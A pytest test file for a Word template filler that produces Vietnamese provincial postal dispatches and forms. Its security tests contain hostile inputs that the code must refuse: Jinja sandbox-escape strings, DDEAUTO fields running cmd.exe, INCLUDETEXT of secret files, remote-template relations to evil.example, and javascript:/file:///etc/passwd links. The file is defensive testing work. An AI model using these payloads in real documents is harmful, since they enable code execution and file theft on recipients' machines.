"""Facts to documents: what is printed whole, what is refused, and that the same facts give the same bytes."""

import copy
import datetime
import io
import re
import unicodedata
import zipfile
from typing import Any

import pytest
from docx import Document
from docx.oxml.ns import qn
from hypothesis import given, settings
from hypothesis import strategies as st

from postwatch.documents.facts import plain
from postwatch.documents.fill import Template
from postwatch.documents.layout import build_template
from postwatch.documents.limited_xml import MAX_ELEMENTS, RefusedXmlError
from postwatch.documents.lint import Proof
from postwatch.documents.package import may_reach, relations
from postwatch.documents.qr import png
from postwatch.documents.sources import shipped_template, template_bytes
from postwatch.documents.typeface import width
from postwatch.errors import DocumentError, NotFoundError

NAMES = ["dispatch/letter", "dispatch/sheet", "pledge/form", "followup/letter", "report/monthly"]
QR = png("CK-2020-0042")
Facts = dict[str, dict[str, Any]]


def fill(name: str, facts: Facts) -> bytes:
    return shipped_template(name).render(facts[name], title="Thử", images={"qr": QR})


def texts(docx: bytes) -> list[str]:
    return [p.text for p in Document(io.BytesIO(docx)).paragraphs if p.text]


def everything(docx: bytes) -> str:
    return "\n".join(node.text or "" for node in Document(io.BytesIO(docx)).element.iter(qn("w:t")))


def one_line(text: str) -> Template:
    return Template(build_template(f"paragraph: {text}"), "own/letter.docx")


def with_document(text: str, change: Any) -> bytes:
    """A template of one paragraph whose document.xml is changed by hand, as Word or a clerk would."""
    return with_part(build_template(f"paragraph: {text}"), "word/document.xml", change)


def with_part(docx: bytes, part: str, change: Any) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            target.writestr(name, change(data.decode()) if name == part else data)
    return out.getvalue()


# -- golden text -------------------------------------------------------------------------------------------------------


def test_the_letter_reads_back_as_the_lines_it_was_given(facts: Facts) -> None:
    given_text = ["".join(run["text"] for run in p["runs"]) for p in facts["dispatch/letter"]["paragraphs"]]
    dashed = [
        f"- {text}" if p["kind"] == "bullet" else text
        for p, text in zip(facts["dispatch/letter"]["paragraphs"], given_text, strict=True)
    ]
    assert texts(fill("dispatch/letter", facts)) == [
        "Kính gửi:",
        "- Phòng Văn hóa, thông tin các huyện, thành phố;",
        "- Các doanh nghiệp Bưu chính trên địa bàn tỉnh.",
        *dashed,
    ]


def test_the_head_of_the_letter_leaves_number_and_day_blank(facts: Facts) -> None:
    left, right = Document(io.BytesIO(fill("dispatch/letter", facts))).tables[0].columns
    assert [p.text for cell in left.cells for p in cell.paragraphs if p.text] == [
        "UBND TỈNH LẠNG SƠN",
        "SỞ THÔNG TIN\nVÀ TRUYỀN THÔNG",
        "Số: ……/STTTT-TTr",
        facts["dispatch/letter"]["subject"],
    ]
    assert [p.text for cell in right.cells for p in cell.paragraphs if p.text] == [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Lạng Sơn, ngày …… tháng 5 năm 2020",
    ]


def test_the_foot_of_the_letter_names_where_it_goes_and_who_signs(facts: Facts) -> None:
    left, right = Document(io.BytesIO(fill("dispatch/letter", facts))).tables[-1].rows[0].cells
    assert [p.text for p in left.paragraphs] == [
        "Nơi nhận:",
        "- Như trên;",
        "- Lãnh đạo Sở (b/c);",
        "- Phòng PA03- Công an tỉnh (p/h);",
        "- Phòng TTBCXB, VP;",
        "- Trung tâm CNTT&TT (đăng tải);",
        "- Lưu: VT, TTr.",
    ]
    assert [p.text for p in right.paragraphs] == ["GIÁM ĐỐC", "Nguyễn Quang Huy"]


def test_one_addressee_stands_on_the_line_without_end_mark(facts: Facts) -> None:
    facts["dispatch/letter"]["addressees"] = ["Bộ Nội vụ"]
    assert texts(fill("dispatch/letter", facts))[0] == "Kính gửi: Bộ Nội vụ"


@pytest.mark.parametrize("urgency", ["", "KHẨN", "THƯỢNG KHẨN", "HỎA TỐC"])
def test_the_urgency_is_printed_once_or_not_at_all(urgency: str, facts: Facts) -> None:
    facts["dispatch/letter"]["urgency"] = urgency
    found = [line for line in everything(fill("dispatch/letter", facts)).split("\n") if line.isupper() and "KH" in line]
    assert [line for line in found if line.endswith("KHẨN")] == ([urgency] if urgency.endswith("KHẨN") else [])
    assert ("HỎA TỐC" in everything(fill("dispatch/letter", facts))) == (urgency == "HỎA TỐC")


def test_a_pledge_has_blank_lines_to_write_on_and_no_agency_in_its_head(facts: Facts) -> None:
    lines = texts(fill("pledge/form", facts))
    assert lines[:3] == ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "BẢN CAM KẾT"]
    assert "Kính gửi: Sở Thông tin và Truyền thông tỉnh Lạng Sơn" in lines
    assert "Tên đơn vị: Bưu cục Đồng Đăng" in lines
    assert "Điện thoại: \t" in lines
    assert [line[:2] for line in lines if re.match(r"\d\. ", line)] == ["1.", "2.", "3.", "4.", "5.", "6."]
    assert not any("điểm phục vụ bưu chính của đơn vị" in line for line in lines)


def test_a_pledge_for_many_points_carries_their_list(facts: Facts) -> None:
    facts["pledge/form"]["covered"] = ["Bưu cục Tân Thanh", "Bưu cục Hữu Nghị"]
    document = Document(io.BytesIO(fill("pledge/form", facts)))
    assert [[cell.text for cell in row.cells] for row in document.tables[-1].rows] == [
        ["STT", "Điểm phục vụ bưu chính"],
        ["1", "Bưu cục Tân Thanh"],
        ["2", "Bưu cục Hữu Nghị"],
    ]
    assert any("tại 2 điểm phục vụ" in p.text for p in document.paragraphs)


def test_an_appendix_prints_every_row_and_column(facts: Facts) -> None:
    document = Document(io.BytesIO(fill("followup/letter", facts)))
    appendix = facts["followup/letter"]["appendix_missing"]
    assert [[cell.text for cell in row.cells] for row in document.tables[-1].rows] == [
        appendix["columns"],
        *appendix["rows"],
    ]
    assert [t for t in texts(fill("followup/letter", facts)) if t.startswith("Phụ lục")] == ["Phụ lục I", "Phụ lục II"]


def test_an_appendix_without_rows_is_left_out(facts: Facts) -> None:
    facts["followup/letter"]["appendix_done"] = None
    docx = fill("followup/letter", facts)
    assert [t for t in texts(docx) if t.startswith("Phụ lục")] == ["Phụ lục"]
    assert len(Document(io.BytesIO(docx)).sections) == 2


def test_a_report_says_dear_only_to_a_higher_body(facts: Facts) -> None:
    assert any(t.startswith("Kính gửi") for t in texts(fill("report/monthly", facts)))
    facts["report/monthly"]["addressee"] = ""
    assert not any(t.startswith("Kính gửi") for t in texts(fill("report/monthly", facts)))


def test_columns_of_a_grid_fill_the_page(facts: Facts) -> None:
    for table in Document(io.BytesIO(fill("followup/letter", facts))).tables[-2:]:
        grid = [int(column.get(qn("w:w"))) for column in table._tbl.tblGrid.iter(qn("w:gridCol"))]
        # The appendices lie on their side: 297 mm less margins of 30 and 15 mm and borders, in twentieths of a point.
        assert (len(grid), sum(grid)) == (5, 14230)
        assert grid[0] < grid[1]


# -- values ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["A & B <C>", "“Hà” 'Nam' \"Bắc\"", "x" * 300, "]]>", "&amp;", "{{ head }}", "{% if %}", "</w:t>"]
)
def test_names_come_out_whole(name: str, facts: Facts) -> None:
    facts["dispatch/sheet"]["unit"]["name"] = name
    assert f"Đơn vị: {name}" in texts(fill("dispatch/sheet", facts))


def test_decomposed_letters_are_printed_composed() -> None:
    name = unicodedata.normalize("NFD", "Sở Thông tin và Truyền thông")
    assert texts(one_line("{{ x }}").render({"x": name}, title="t")) == [unicodedata.normalize("NFC", name)]


def test_a_line_break_in_a_value_is_a_line_break_on_paper() -> None:
    docx = one_line("{{ x }}").render({"x": "một\nhai\r\nba"}, title="t")
    assert texts(docx) == ["một\nhai\nba"]


def test_a_date_is_printed_day_first() -> None:
    docx = one_line("{{ x }}, {{ n }}").render({"x": datetime.date(2020, 6, 5), "n": 7}, title="t")
    assert texts(docx) == ["05/06/2020, 7"]


@pytest.mark.parametrize("bad", ["a\x00b", "a\x1bb", "a\tb", "a\x85b", "a\ufffeb", "a\ud800b"])
def test_a_control_character_is_refused_by_its_field(bad: str) -> None:
    with pytest.raises(DocumentError, match=r"unit\.name"):
        plain({"unit": {"name": bad}})


@pytest.mark.parametrize("bad", [1.5, object(), b"x", datetime.datetime(2020, 5, 1), {1: "x"}, {"x"}])  # noqa: DTZ001
def test_only_plain_facts_reach_a_template(bad: Any) -> None:
    with pytest.raises(DocumentError):
        one_line("{{ x }}").render({"x": bad}, title="t")


@given(st.text(max_size=60))
@settings(deadline=None, max_examples=60)
def test_any_text_is_printed_whole_or_refused(text: str) -> None:
    try:
        docx = one_line_of_x().render({"x": f"«{text}»"}, title="t")
    except DocumentError:
        return
    read = Document(io.BytesIO(docx)).paragraphs[0].text
    assert read == unicodedata.normalize("NFC", f"«{text}»".replace("\r\n", "\n"))


_X: list[Template] = []


def one_line_of_x() -> Template:
    if not _X:
        _X.append(one_line("{{ x }}"))
    return _X[0]


def test_a_link_is_a_real_hyperlink(facts: Facts) -> None:
    document = Document(io.BytesIO(fill("dispatch/letter", facts)))
    links = [link for p in document.paragraphs for link in p.hyperlinks]
    assert [(link.text, link.address) for link in links] == [("http://sttt.langson.gov.vn/",) * 2]


@pytest.mark.parametrize("address", ["javascript:alert(1)", "file:///etc/passwd", "http://a b", 'http://a"b'])
def test_an_address_that_is_no_web_page_is_refused(address: str, facts: Facts) -> None:
    facts["dispatch/letter"]["paragraphs"][-1]["runs"][1]["link"] = address
    with pytest.raises(
        DocumentError, match=r"dispatch/letter\.docx links to .*not the address of a page or mailbox, at «"
    ):
        fill("dispatch/letter", facts)


def test_the_picture_of_a_form_is_its_own_code(facts: Facts) -> None:
    with zipfile.ZipFile(io.BytesIO(fill("pledge/form", facts))) as archive:
        media = [archive.read(name) for name in archive.namelist() if name.startswith("word/media/")]
    assert media == [QR]


def test_a_form_without_its_code_is_not_made(facts: Facts) -> None:
    with pytest.raises(DocumentError, match="picture qr"):
        shipped_template("pledge/form").render(facts["pledge/form"], title="t")


def media(docx: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name.startswith("word/media/")}


def moved_to_the_header(*, stays: bool) -> bytes:
    """The form with the picture in the head of its first page, of a file of its own."""
    document = Document(io.BytesIO(template_bytes("pledge/form")))
    header = document.sections[0].first_page_header
    header.is_linked_to_previous = False
    header.paragraphs[0].add_run().add_picture(io.BytesIO(png("SAMPLE")))
    next(header._element.iter(qn("wp:docPr"))).set("name", "qr")
    drawing = next(document.element.body.iter(qn("w:drawing")))
    if not stays:
        drawing.getparent().remove(drawing)
        document.part.drop_rel(next(key for key, one in document.part.rels.items() if one.reltype.endswith("/image")))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize("stays", [True, False])
def test_the_picture_is_filled_in_wherever_it_stands(stays: bool, facts: Facts) -> None:
    docx = moved_to_the_header(stays=stays)
    with pytest.raises(DocumentError, match="picture qr"):
        Template(docx).render(facts["pledge/form"], title="t")
    found = media(Template(docx).render(facts["pledge/form"], title="t", images={"qr": QR}))
    assert list(found.values()) == [QR] * (1 + stays)


def test_a_picture_that_two_places_share_is_the_code_in_both(facts: Facts) -> None:
    def twice(xml: str) -> str:
        run = re.search(r"<w:r><w:drawing>.*?</w:drawing></w:r>", xml)
        assert run is not None
        return xml.replace(run[0], run[0] + run[0].replace('docPr id="1" name="qr"', 'docPr id="2" name="Picture 2"'))

    docx = with_part(template_bytes("pledge/form"), "word/document.xml", twice)
    assert list(media(Template(docx).render(facts["pledge/form"], title="t", images={"qr": QR})).values()) == [QR]


def test_a_picture_with_another_name_stays_as_it_is(facts: Facts) -> None:
    docx = with_part(
        template_bytes("pledge/form"),
        "word/document.xml",
        lambda xml: xml.replace('1" name="qr" d', '1" name="logo" d'),
    )
    assert media(Template(docx).render(facts["pledge/form"], title="t")) == media(docx)


def re_encoded(docx: bytes) -> bytes:
    """The picture as Word keeps it when it makes a file smaller."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            data = source.read(name).replace(b"media/image1.png", b"media/image1.jpeg")
            is_picture = name.startswith("word/media/")
            target.writestr(name.replace(".png", ".jpeg"), b"\xff\xd8\xff\xe0" if is_picture else data)
    return out.getvalue()


def of_the_body(change: Any) -> bytes:
    return with_part(template_bytes("pledge/form"), "word/document.xml", change)


SVG = 'xmlns:s="http://schemas.microsoft.com/office/drawing/2016/SVG/main"'
UNFIT: dict[str, Any] = {
    "a JPEG": (lambda: re_encoded(template_bytes("pledge/form")), r"it is not a PNG \(image1\.jpeg\)"),
    "nothing behind it": (lambda: of_the_body(lambda xml: xml.replace("r:embed=", "r:other=")), "no picture in the"),
    "gone": (lambda: of_the_body(lambda xml: re.sub('r:embed="[^"]*"', 'r:embed="rId99"', xml)), "no picture in the"),
    "a drawing": (
        lambda: of_the_body(lambda xml: re.sub(r"(<a:blip [^>]*)/>", rf"\1><s:svgBlip {SVG}/></a:blip>", xml)), "SVG"
    ),
}  # fmt: skip


@pytest.mark.parametrize("kind", UNFIT)
def test_a_picture_that_cannot_be_replaced_is_refused_by_name_and_found(kind: str) -> None:
    make, said = UNFIT[kind]
    with pytest.raises(DocumentError, match=said) as refused:
        Template(make(), "pledge/form.docx")
    assert "The picture qr of the template pledge/form.docx cannot be replaced, in the body" in refused.value.message
    assert "put the picture of the shipped template in its place" in refused.value.hint
    found = Proof(make(), "own.docx").flaws(Template(template_bytes("pledge/form")).fields)
    assert [(one.kind, one.what, one.where) for one in found] == [("picture", "qr", "the body")]
    assert re.search(said, found[0].detail)


# -- the same bytes ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_the_same_facts_give_the_same_bytes(name: str, facts: Facts) -> None:
    first = fill(name, facts)
    again = Template(template_bytes(name)).render(copy.deepcopy(facts[name]), title="Thử", images={"qr": QR})
    assert first == again
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert archive.testzip() is None
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_properties_come_from_the_facts(facts: Facts) -> None:
    facts["dispatch/letter"]["document"] = {"created": datetime.date(2020, 5, 15), "keywords": "abc & d"}
    core = Document(io.BytesIO(fill("dispatch/letter", facts))).core_properties
    assert (core.title, core.author, core.keywords) == ("Thử", "SỞ THÔNG TIN VÀ TRUYỀN THÔNG", "abc & d")
    assert core.created.date() == core.modified.date() == datetime.date(2020, 5, 15)


# -- templates that clerks changed -------------------------------------------------------------------------------------


def test_a_misspelt_field_is_named_with_its_likely_name() -> None:
    with pytest.raises(DocumentError, match="agencyy") as refused:
        one_line("{{ head.agencyy }}").render({"head": {"agency": "Sở"}}, title="t")
    assert "own/letter.docx" in refused.value.message
    assert "head.agency?" in refused.value.hint
    assert refused.value.exit_code == 8


def test_a_misspelt_field_is_found_before_use() -> None:
    changed = with_part(
        template_bytes("dispatch/letter"),
        "word/document.xml",
        lambda xml: xml.replace("signature.signer", "signature.singer").replace("{{ place }}", "{{ plaace }}", 1),
    )
    known = Template(template_bytes("dispatch/letter")).fields
    found = Proof(changed, "own.docx").flaws(known)
    assert [(one.kind, one.what, one.nearest) for one in found] == [
        ("field", "plaace", "place"),
        ("field", "signature.singer", "signature.signer"),
    ]
    assert Proof(template_bytes("dispatch/letter"), "own.docx").flaws(known) == []


@pytest.mark.parametrize("tag", ["{{ x", "{% if x %}", "{{ x|nofilter }}", "{% endif %}", "{{ x + }}", "{% oops %}"])
def test_a_broken_tag_is_refused_with_the_name_of_the_template(tag: str) -> None:
    with pytest.raises(DocumentError, match=r"own/letter\.docx"):
        one_line(tag)


@pytest.mark.parametrize(
    "tag",
    [
        "{{ cycler.__init__.__globals__ }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ x['__class__'] }}",
        "{{ x|attr('__class__') }}",
        "{{ range(10) }}",
        "{{ x.upper() }}",
        "{{ 'a' * 999999999 }}",
        "{{ 9 ** 99999999 }}",
        "{{ '%999999999d' % 1 }}",
        "{{ x|center(999999999) }}",
        "{% include 'a' %}",
        "{% set y = 1 %}",
        "{% macro m() %}{% endmacro %}",
        "{{ self }}",
    ],
)
def test_a_template_never_runs_code(tag: str) -> None:
    with pytest.raises(DocumentError):
        Template(with_document("THERE", lambda xml: xml.replace("THERE", tag))).render({"x": "a"}, title="t")


def test_tags_that_word_cut_into_runs_are_mended() -> None:
    cut = '{{ </w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:rPr><w:b/></w:rPr><w:t>na</w:t></w:r><w:r><w:t>me }}'
    docx = Template(with_document("THERE", lambda xml: xml.replace("THERE", cut))).render({"name": "A & B"}, title="t")
    assert texts(docx) == ["A & B"]


@pytest.mark.parametrize("quote", ["&quot;", "“", "'", "&apos;"])
def test_quotes_that_a_word_processor_changed_are_mended(quote: str) -> None:
    tag = f"{{% if x == {quote}a{quote} %}}yes{{% endif %}}"
    docx = Template(with_document("THERE", lambda xml: xml.replace("THERE", tag))).render({"x": "a"}, title="t")
    assert texts(docx) == ["yes"]


def test_a_loop_that_cuts_through_a_paragraph_is_refused() -> None:
    cut = (
        "{% for a in x %}b</w:t></w:r></w:p><w:tbl><w:tr><w:tc><w:p><w:r><w:t>c{% endfor %}d</w:t></w:r></w:p></w:tc>"
        "</w:tr></w:tbl><w:p><w:r><w:t>e"
    )
    template = Template(with_document("THERE", lambda xml: xml.replace("THERE", cut)))
    with pytest.raises(DocumentError, match="cuts through"):
        template.render({"x": [1, 2]}, title="t")


@pytest.mark.parametrize("docx", [b"", b"not a zip", b"PK\x03\x04 broken", build_template("paragraph: x")[:-40]])
def test_what_is_no_word_file_is_refused(docx: bytes) -> None:
    with pytest.raises(DocumentError, match="not a Word file"):
        Template(docx)


@pytest.mark.parametrize(
    ("part", "old", "new", "said"),
    [
        ("word/document.xml", "<w:document", "<!DOCTYPE a [<!ENTITY b 'c'>]><w:document", "entities"),
        (
            "word/document.xml",
            "<w:t>",
            "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText><w:t>",
            "reads another file",
        ),
        (
            "word/_rels/document.xml.rels",
            "</Relationships>",
            '<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://x" TargetMode="External"/>'
            "</Relationships>",
            "fetches another file",
        ),
    ],
)
def test_a_template_that_reaches_outside_is_refused(part: str, old: str, new: str, said: str) -> None:
    docx = with_part(build_template("paragraph: x"), part, lambda xml: xml.replace(old, new, 1))
    with pytest.raises(DocumentError, match=said):
        Template(docx)


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ELSEWHERE = "http://evil.example/x.dotm"
RELATIONS = "word/_rels/document.xml.rels"


def with_relation(xml: str) -> bytes:
    return with_part(
        build_template("paragraph: x"),
        RELATIONS,
        lambda rels: rels.replace("</Relationships>", f"{xml}</Relationships>"),
    )


def with_runs(xml: str) -> bytes:
    return with_document("THERE", lambda body: body.replace("<w:r>", f"{xml}<w:r>", 1))


def code_of(text: str) -> str:
    """A field as Word writes it: its code between the signs of its begin and its end."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{sign}"/></w:r>' for sign in ("begin", "end"))
    return f"{begin}<w:r><w:instrText>{text}</w:instrText></w:r>{end}"


@pytest.mark.parametrize(
    ("xml", "said"),
    [
        (f'<Relationship Id="r9" Type="{OFFICE}/attachedTemplate" Target="{ELSEWHERE}" TargetMode="External">'
         "</Relationship>", "fetches another file"),
        (f"<Relationship Id='r9' Type='{OFFICE}/attachedTemplate' Target='{ELSEWHERE}' TargetMode='External'/>",
         "fetches another file"),
        (f'<a:Relationship xmlns:a="http://schemas.openxmlformats.org/package/2006/relationships" Id="r9" '
         f'Type="{OFFICE}/image" Target="{ELSEWHERE}" TargetMode="&#69;xternal"/>', "fetches another file"),
        (f'<Relationship Id="r9" Type="{OFFICE}/image" Target="{ELSEWHERE}" TargetMode="external"/>', "fetches"),
        (f'<Relationship Id="r9" Type="{OFFICE}/image" Target="{ELSEWHERE}"/>', "fetches another file"),
        (f'<Relationship Id="r9" Type="{OFFICE}/image" Target="\\\\host\\x.png"/>', "fetches another file"),
        ('<Relationship Id="r9" Type="http://x/hyperlink" Target="http://x" TargetMode="External"/>', "fetches"),
        (f'<Relationship Id="r9" Type="{OFFICE}/frame" Target="x.htm"/>', "fetches another file"),
        (f'<Relationship Id="r9" Type="{OFFICE}/aFChunk" Target="x.htm"/>', "macros or an embedded object"),
        (f'<Relationship Id="r9" Type="{OFFICE}/oleObject" Target="x.ole"/>', "macros or an embedded object"),
        (f'<Relationship Id="r9" Type="{OFFICE}/package" Target="x.xlsx"/>', "macros or an embedded object"),
        (f'<Relationship Id="r9" Type="{OFFICE}/control" Target="activeX1.xml"/>', "macros or an embedded object"),
        ('<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
         'Target="x.dat"/>', "macros or an embedded object"),
    ],
)  # fmt: skip
def test_a_relation_that_reaches_outside_is_refused_however_it_is_written(xml: str, said: str) -> None:
    with pytest.raises(DocumentError, match=said):
        Template(with_relation(xml))


@pytest.mark.parametrize(
    "kind",
    ["application/vnd.ms-office.vbaProject", "application/vnd.openxmlformats-officedocument.oleObject",
     "application/vnd.ms-office.activeX+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"],
)  # fmt: skip
def test_a_part_that_is_a_program_is_refused_whatever_its_name(kind: str) -> None:
    part = f'<Override PartName="/word/x.dat" ContentType="{kind}"/></Types>'
    docx = with_part(build_template("paragraph: x"), "[Content_Types].xml", lambda xml: xml.replace("</Types>", part))
    with pytest.raises(DocumentError, match="macros or an embedded object"):
        Template(docx)


@pytest.mark.parametrize(
    "xml",
    [
        code_of('includetext "C:\\secret.docx"'),
        code_of('INCLUDE&#84;EXT "C:\\secret.docx"'),
        code_of('INCLUDE<!-- x -->TEXT "C:\\secret.docx"'),
        code_of('DdeAuto c:\\windows\\system32\\cmd.exe "/k calc"'),
        code_of("DD</w:instrText></w:r><w:r><w:instrText>E c:\\cmd.exe"),
        code_of("PAGE") + code_of("DDE c:\\cmd.exe"),
        code_of("PAGE").removesuffix('<w:r><w:fldChar w:fldCharType="end"/></w:r>')
        + code_of("IncludePicture http://evil.example/x.png"),
        code_of(f"IF 1 = 1 {code_of('LINK Excel.Sheet.12 x.xlsx')}"),
        code_of("{{ x }} c:\\cmd.exe"),
        code_of("DATABASE \\d x.mdb"),
        code_of("MACROBUTTON x y"),
        code_of("<w:tab/>DDE x"),
        '<w:fldSimple w:instr=" rd c:\\secret.docx "><w:r><w:t>x</w:t></w:r></w:fldSimple>',
        "<w:fldSimple w:instr='import c:\\x.png'/>",
        '<v:instrText xmlns:v="http://purl.oclc.org/ooxml/wordprocessingml/main">embed x</v:instrText>',
    ],
)
def test_a_field_that_fetches_or_runs_something_is_refused_however_it_is_written(xml: str) -> None:
    with pytest.raises(DocumentError, match="a field that reads another file"):
        Template(with_runs(xml))
    assert may_reach(xml.encode()), "a filled document with it is looked at again"


@pytest.mark.parametrize(
    "code",
    [" PAGE ", "page \\* MERGEFORMAT", "NUMPAGES", "DATE \\@ &quot;dd/MM/yyyy&quot;", "= 1 + 1", " ",
     "HYPERLINK &quot;http://x/import/dde&quot;", "REF link \\h", f"IF {code_of('PAGE')} = 1 a b"],
)  # fmt: skip
def test_a_field_that_prints_only_is_no_danger(code: str) -> None:
    docx = Template(with_runs(code_of(code))).render({}, title="t")
    assert texts(docx) == ["THERE"]


@pytest.mark.parametrize(
    "xml",
    [
        '<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId1"/>'
        "</w:drawing></w:r>",
        '<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://x/y.png"/></w:pict></w:r>',
        '<w:subDoc r:id="rId1"/>',
        '<w:altChunk r:id="rId1"/>',
        '<w:r><w:object/></w:r>',
    ],
)  # fmt: skip
def test_an_element_that_stands_for_another_file_is_refused(xml: str) -> None:
    with pytest.raises(DocumentError, match=r"fetches another file|embedded object"):
        Template(with_runs(xml))
    assert may_reach(xml.encode())


@pytest.mark.parametrize(
    ("part", "old", "new", "said"),
    [
        ("word/styles.xml", "UTF-8", "windows-1258", "is not UTF-8"),
        ("word/settings.xml", "</w:settings>", "", "is not well-formed XML"),
        ("docProps/app.xml", "<Properties", "<!DOCTYPE x SYSTEM 'http://x/y'><Properties", "declares entities"),
        ("word/settings.xml", "</w:settings>", "<a>" * 300 + "</a>" * 300 + "</w:settings>", "more than a letter"),
    ],
)
def test_a_part_that_another_reader_would_read_otherwise_is_refused(part: str, old: str, new: str, said: str) -> None:
    docx = with_part(build_template("paragraph: x"), part, lambda xml: re.sub(old, new, xml, count=1, flags=re.I))
    with pytest.raises(DocumentError, match=said):
        Template(docx)


def test_xml_under_another_name_is_read_too() -> None:
    out = io.BytesIO(build_template("paragraph: x"))
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("word/other.dat", f"<w:p xmlns:w='w'><w:instrText>{'DDE x'}</w:instrText></w:p>")
    with pytest.raises(DocumentError, match="a field that reads another file"):
        Template(out.getvalue())


def test_links_that_a_clerk_wrote_stay_beside_those_of_the_facts(facts: Facts) -> None:
    """However the relations are written."""
    link = '<Relationship Id="r9" Type="{}/hyperlink" Target="http://sttt.vn" TargetMode="External"></Relationship>'
    changed = with_part(
        template_bytes("dispatch/letter"),
        RELATIONS,
        lambda xml: xml.replace('"', "'").replace("</Relationships>", f"{link.format(OFFICE)}</Relationships>"),
    )
    docx = Template(changed).render(facts["dispatch/letter"], title="t")
    with zipfile.ZipFile(io.BytesIO(docx)) as package:
        assert b'Target="http://sttt.vn"' in package.read(RELATIONS)
    assert [link.address for p in Document(io.BytesIO(docx)).paragraphs for link in p.hyperlinks] == [
        "http://sttt.langson.gov.vn/"
    ]


# -- what is no text ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tag", "field", "kind"),
    [
        ("{{ names }}", "names", "a list"),
        ("{{ unit }}", "unit", "a group of fields"),
        ("{{ unit.head }}", "unit.head", "nothing"),
        ("{{ unit.is_open }}", "unit.is_open", "yes or no"),
        ("{{ names|upper }}", "names", "a list"),
        ("{{ unit|trim }}", "unit", "a group of fields"),
        ("{{ names ~ '.' }}", "names", "a list"),
        ("{{ rows|join(', ') }}", "rows|join(', ')", "a group of fields"),
        ("{{ (names + names)|upper }}", "(names + names)|upper", "a list"),
        ("{{ names[:1] }}", "names[:1]", "a list"),
        ("{% for row in rows %}{{ row }}{% endfor %}", "row", "a group of fields"),
        ("{{ unit.items }}", "unit.items", "builtin_function_or_method"),
    ],
)
def test_what_is_no_text_is_never_printed(tag: str, field: str, kind: str) -> None:
    facts = {"names": ["Phòng A"], "unit": {"head": None, "is_open": True}, "rows": [{"no": 1}]}
    with pytest.raises(DocumentError) as refused:
        one_line(f"Gửi {tag}").render(facts, title="t")
    assert f"prints {field}, which is not text but {kind}" in refused.value.message


@pytest.mark.parametrize("constant", ["none", "true", "1.5"])
def test_a_constant_that_is_no_text_is_refused(constant: str) -> None:
    with pytest.raises(DocumentError, match=f"but not {constant}, at «"):
        one_line(f"{{{{ {constant} }}}}")


def test_text_and_numbers_are_printed_by_every_filter() -> None:
    facts = {"x": "Sở", "n": 7, "names": ["a", "b"]}
    tags = "{{ n }} {{ x ~ n }} {{ names|join(', ') }} {{ n|upper }} {{ x|lower|trim }} {{ names|length }}"
    assert texts(one_line(tags).render(facts, title="t")) == ["7 Sở7 a, b 7 sở 2"]


@pytest.mark.parametrize(
    ("tag", "said"),
    [
        ("{% for n in names %}{{ loop.indx }}{% endfor %}", "no field loop.indx"),
        ("{% for n in names %}{{ loop.depth }}{% endfor %}", "no field loop.depth"),
        ("{% for n in names %}{{ loop }}{% endfor %}", "may not access loop"),
        ("{% for n in names recursive %}{{ n }}{% endfor %}", "but not recursive"),
    ],
)
def test_a_loop_counts_and_does_nothing_else(tag: str, said: str) -> None:
    with pytest.raises(DocumentError, match=said):
        one_line(tag)


# -- what stands on the paragraph of a tag -----------------------------------------------------------------------------

PICTURE = '<w:r><w:drawing><wp:inline xmlns:wp="wp"/></w:drawing></w:r>'


def test_the_end_of_a_section_on_the_paragraph_of_a_tag_stays(facts: Facts) -> None:
    """Where LibreOffice puts it when it saves a template; without it the annex begins under the signature."""

    def hang(xml: str) -> str:
        own = re.search(r'<w:p><w:pPr><w:pStyle w:val="CuoiPhan"/>(<w:sectPr\b.*?</w:sectPr>)</w:pPr></w:p>', xml)
        assert own is not None
        before = "<w:p><w:r><w:t>{%p if appendix_done %}"
        return xml.replace(own[0], "", 1).replace(before, before.replace("<w:p>", f"<w:p><w:pPr>{own[1]}</w:pPr>"), 1)

    changed = Template(with_part(template_bytes("followup/letter"), "word/document.xml", hang))
    shipped = Template(template_bytes("followup/letter"))
    for without in ({}, {"appendix_done": None}, {"appendix_done": None, "appendix_missing": None}):
        ours, theirs = (
            Document(io.BytesIO(one.render(facts["followup/letter"] | without, title="t")))
            for one in (changed, shipped)
        )
        assert [p.text for p in ours.paragraphs if p.text] == [p.text for p in theirs.paragraphs if p.text]
        assert [_words_before_break(ours)] == [_words_before_break(theirs)]


def _words_before_break(document: Any) -> list[str]:
    """The last words before each end of a section."""
    found, last = [], ""
    for element in document.element.body.iter(qn("w:t"), qn("w:sectPr")):
        if element.tag == qn("w:sectPr"):
            found.append(last)
        last = element.text or last
    return found


@pytest.mark.parametrize(
    ("beside", "kept"),
    [
        ('<w:r><w:br w:type="page"/></w:r>', "w:br"),
        (PICTURE, "w:drawing"),
        ("<w:r><w:pict/></w:r>", "w:pict"),
        (f'<mc:AlternateContent xmlns:mc="mc">{PICTURE}</mc:AlternateContent>', "w:drawing"),
    ],
)
